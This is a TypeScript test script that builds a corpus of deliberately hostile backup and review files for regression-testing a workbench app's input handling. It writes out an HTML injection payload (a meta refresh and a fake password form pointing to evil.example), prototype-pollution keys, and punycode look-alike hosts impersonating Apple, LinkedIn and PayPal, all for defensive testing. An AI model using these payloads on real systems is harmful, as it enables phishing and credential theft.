/**
 * Writes the crafted files of tests/hostile/corpus/ (see README.md there):
 * each is a valid file of its kind — a workspace backup with a correct
 * checksum, a review export — whose VALUES attack the workbench (issue 18).
 * They are built from the project's own fixtures (tests/fixtures/db/
 * v1-workspace.json, the Geneva review snapshot), so they stay valid in every
 * other respect. Run it again only to add a file; the corpus is kept as files
 * so that a regression shows up as a test failing on an unchanged input.
 *
 *   npx tsx tests/hostile/make-corpus.ts
 */
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { buildJsonReport } from '../../src-renderer/core/report';
import { genevaSnapshot } from '../core/report/geneva-snapshot';

const here = (name: string) => fileURLToPath(new URL(name, import.meta.url));
const backupText = readFileSync(here('../fixtures/db/v1-workspace.json'), 'utf8');

type Row = Record<string, unknown>;
type Tables = Map<string, Row[]>;

/** The workspace backup with its rows edited by `edit`, and a checksum that matches again. */
function craftedBackup(edit: (tables: Tables) => void): string {
  const file = JSON.parse(backupText) as { checksum: { value: string }; counts: Record<string, number>; payload: { data: { tables: { name: string; rowCount: number }[]; data: { tableName: string; rows: Row[] }[] } } };
  const tables: Tables = new Map(file.payload.data.data.map((t) => [t.tableName, t.rows]));
  edit(tables);
  for (const t of file.payload.data.tables) t.rowCount = tables.get(t.name)?.length ?? 0;
  for (const [name, rows] of tables) file.counts[name] = rows.length;
  file.checksum.value = createHash('sha256').update(JSON.stringify(file.payload)).digest('hex');
  return `${JSON.stringify(file)}\n`;
}

function craftedReview(edit: (review: Row) => void): string {
  const review = JSON.parse(buildJsonReport(genevaSnapshot())) as Row;
  edit(review);
  return `${JSON.stringify(review, null, 1)}\n`;
}

const rows = (t: Tables, name: string): Row[] => t.get(name) ?? [];
const first = (t: Tables, name: string): Row => rows(t, name)[0]!;
const list = (o: Row, key: string): Row[] => o[key] as Row[];

/** Sources at Latin look-alike hosts (and a Cyrillic one), stored as the app stores them: punycode. */
const LOOKALIKES = [
  ['https://xn--pple-p5b.com/support', 'ɑpple.com'],
  ['https://xn--lnkedin-rfb.com/in/someone', 'lınkedin.com'],
  ['https://xn--paypa-9tb.com/signin', 'paypaǀ.com'],
  ['https://xn--80ak6aa92e.com/', 'аррӏе.com'],
] as const;

export const CORPUS: Readonly<Record<string, () => string>> = {
  'null-paragraphs.backup.json': () => craftedBackup((t) => void (first(t, 'revisions')['paragraphs'] = [null, ...(first(t, 'revisions')['paragraphs'] as unknown[])])),
  'markup-paragraph-kind.backup.json': () =>
    craftedBackup((t) => {
      const paragraphs = first(t, 'revisions')['paragraphs'] as Row[];
      paragraphs[0]!['kind'] = 'body"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input name="password" type="password"><p class="';
    }),
  'proto-source-kind.backup.json': () => craftedBackup((t) => void Object.defineProperty(first(t, 'sources'), 'kind', { value: '__proto__', enumerable: true })),
  'object-source-kind.backup.json': () => craftedBackup((t) => void (first(t, 'sources')['kind'] = { toString: 'official-document' })),
  'constructor-source-kind.backup.json': () => craftedBackup((t) => void (first(t, 'sources')['kind'] = 'constructor')),
  'impossible-dates.backup.json': () =>
    craftedBackup((t) => {
      first(t, 'articles')['createdAt'] = '9999-99-99T99:99';
      first(t, 'sources')['publishedAt'] = '2025-02-30';
    }),
  'garbage-date.backup.json': () => craftedBackup((t) => void (first(t, 'articles')['createdAt'] = 'garbage')),
  'missing-current-revision.backup.json': () => craftedBackup((t) => void delete first(t, 'articles')['currentRevisionId']),
  'claim-beyond-text.backup.json': () =>
    craftedBackup((t) => {
      const target = first(t, 'claims')['target'] as { position: { start: number; end: number } };
      target.position.start = 10_000_000;
      target.position.end = 10_000_100;
    }),
  'over-long-url.backup.json': () => craftedBackup((t) => void (first(t, 'sources')['url'] = `https://example.org/${'a'.repeat(2100)}`)),
  'lookalike-hosts.backup.json': () =>
    craftedBackup((t) => {
      const template = first(t, 'sources');
      LOOKALIKES.forEach(([url, shown], i) => {
        rows(t, 'sources').push({ ...template, id: `lookalike-${i + 1}`, url, normalizedUrl: url, title: `Page at ${shown}` });
      });
    }),
  'hostile-values.review.json': () =>
    craftedReview((r) => {
      const revision = r['revision'] as Row;
      (revision['paragraphs'] as Row[])[0]!['kind'] = '"><meta http-equiv="refresh" content="0;url=https://evil.example/">';
      list(r, 'sources')[0]!['kind'] = '__proto__';
      list(r, 'claims')[0]!['status'] = 'constructor';
    }),
  'proto-keys.review.json': () =>
    // JSON.parse makes "__proto__" an own key; a reader that copies it onto a plain object would pollute.
    craftedReview((r) => void Object.defineProperty(r, '__proto__', { value: { polluted: true }, enumerable: true })),
  'impossible-date.review.json': () => craftedReview((r) => void (list(r, 'sources')[0]!['publishedAt'] = '9999-99-99T99:99')),
  'out-of-range-offsets.review.json': () =>
    craftedReview((r) => {
      const target = list(r, 'claims')[0]!['target'] as { position: { start: number; end: number } };
      target.position.start = -5;
    }),
  'lookalike-hosts.review.json': () =>
    craftedReview((r) => {
      const template = list(r, 'sources')[0]!;
      LOOKALIKES.forEach(([url, shown], i) => list(r, 'sources').push({ ...template, id: `lookalike-${i + 1}`, url, normalizedUrl: url, title: `Page at ${shown}` }));
    }),
  'over-long-url.urls.txt': () => `https://example.org/ok\nhttps://example.org/${'a'.repeat(2100)}\nhttps://example.org/also-ok\n`,
};

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  for (const [name, make] of Object.entries(CORPUS)) writeFileSync(here(`corpus/${name}`), make());
  process.stdout.write(`make-corpus: wrote ${Object.keys(CORPUS).length} files to tests/hostile/corpus/\n`);
}
